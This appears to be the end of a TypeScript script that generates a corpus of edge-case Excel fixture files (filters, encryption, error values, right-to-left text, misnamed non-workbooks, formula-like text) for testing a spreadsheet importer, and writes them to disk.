    file: 'hidden-rows-columns.xlsx',
    what: "an indicator's row, a spacer row, Q3, Q4 and a notes column hidden",
    bytes: hiddenRowsColumns,
  },
  filtered: { file: 'filter-on.xlsx', what: 'an AutoFilter with criteria applied, hiding three indicators', bytes: filterOn },
  filterRange: { file: 'filter-range.xlsx', what: 'AutoFilter buttons on the header, nothing filtered', bytes: filterRange },
  frozen: { file: 'frozen-panes.xlsx', what: 'panes frozen at C4, zoom 85%', bytes: frozenPanes },
  protected: { file: 'protected-sheet.xlsx', what: 'the KPI sheet protected with a password', bytes: protectedSheet },
  tableTotals: { file: 'table-totals.xlsx', what: 'an Excel table (ListObject) with a totals row', bytes: tableWithTotals },
  textNumbers: {
    file: 'text-numbers.xlsx',
    what: 'figures and targets typed as text with stray spaces and non-breaking spaces',
    bytes: textNumbers,
  },
  errors: {
    file: 'error-values.xlsx',
    what: '#N/A, #DIV/0! and #REF! in actuals and targets, typed and as formula results',
    bytes: errorValues,
  },
  dates: { file: 'dates.xlsx', what: 'deadlines and completions as text and as date serials; months as dates and as text', bytes: dates },
  longCells: { file: 'long-cells.xlsx', what: 'a commentary, a description and a figure of 32,767 characters', bytes: longCells },
  emojiRtl: {
    file: 'emoji-rtl.xlsx',
    what: 'emoji, Arabic and Hebrew in the sheet name, descriptions, commentary and owners',
    bytes: emojiRtl,
  },
  sheetNames: {
    file: 'sheet-names.xlsx',
    what: 'a sheet name of 31 characters and sheet names with apostrophes, referred to by formulas',
    bytes: sheetNames,
  },
  duplicates: { file: 'duplicate-refs.xlsx', what: 'the same indicator number on two rows, twice', bytes: duplicateRefs },
  sideBySide: { file: 'side-by-side.xlsx', what: 'two KPI tables side by side on one sheet', bytes: sideBySide },
  empty: { file: 'empty.xlsx', what: 'a workbook with one empty sheet', bytes: emptyWorkbook },
  onlyCharts: { file: 'only-charts.xlsx', what: 'a workbook whose only sheet is a chart sheet', bytes: onlyCharts },
  chartOnEmptySheet: { file: 'chart-on-empty-sheet.xlsx', what: 'a worksheet holding a chart and no cells', bytes: chartOnEmptySheet },
  notWorkbookHtml: { file: NOT_WORKBOOKS.html, what: 'an HTML "Export to Excel" named .xlsx', bytes: htmlExport },
  notWorkbookCsv: { file: NOT_WORKBOOKS.csv, what: 'a CSV file named .xlsx', bytes: csvExport },
  notWorkbookDocx: { file: NOT_WORKBOOKS.docx, what: 'a Word document named .xlsx', bytes: wordDocument },
  zeroBytes: { file: NOT_WORKBOOKS.empty, what: 'a file of 0 bytes', bytes: () => Buffer.alloc(0) },
  encrypted: {
    file: 'encrypted.xlsx',
    what: 'a password-protected workbook (an OLE2 compound file with EncryptionInfo and EncryptedPackage)',
    bytes: encryptedWorkbook,
  },
  statusFormulas: { file: 'status-formulas.xlsx', what: 'every status cell holds a formula', bytes: statusFormulas },
  hostile: {
    file: 'hostile-text.xlsx',
    what: 'descriptions, owners, saved templates and labels that look like formulas',
    bytes: hostileText,
  },
} as const satisfies Record<string, CorpusEntry>;

export type CorpusName = keyof typeof CORPUS;
export const CORPUS_NAMES = Object.keys(CORPUS) as CorpusName[];

/** Writes every corpus file into `dir` and returns their paths by name. */
export async function makeCorpus(dir: string = DEFAULT_OUT_DIR): Promise<Record<CorpusName, string>> {
  mkdirSync(dir, { recursive: true });
  const paths = {} as Record<CorpusName, string>;
  for (const name of CORPUS_NAMES) {
    const entry: CorpusEntry = CORPUS[name];
    const path = join(dir, entry.file);
    writeFileSync(path, await entry.bytes());
    paths[name] = path;
  }
  return paths;
}

if (require.main === module) {
  const dir = process.argv[2] ? resolve(process.argv[2]) : DEFAULT_OUT_DIR;
  makeCorpus(dir).then(
    (paths) => {
      for (const name of CORPUS_NAMES) process.stdout.write(`${paths[name]}  — ${CORPUS[name].what}\n`);
    },
    (error: unknown) => {
      process.stderr.write(`make-corpus failed: ${error instanceof Error ? error.message : String(error)}\n`);
      process.exitCode = 1;
    },
  );
}
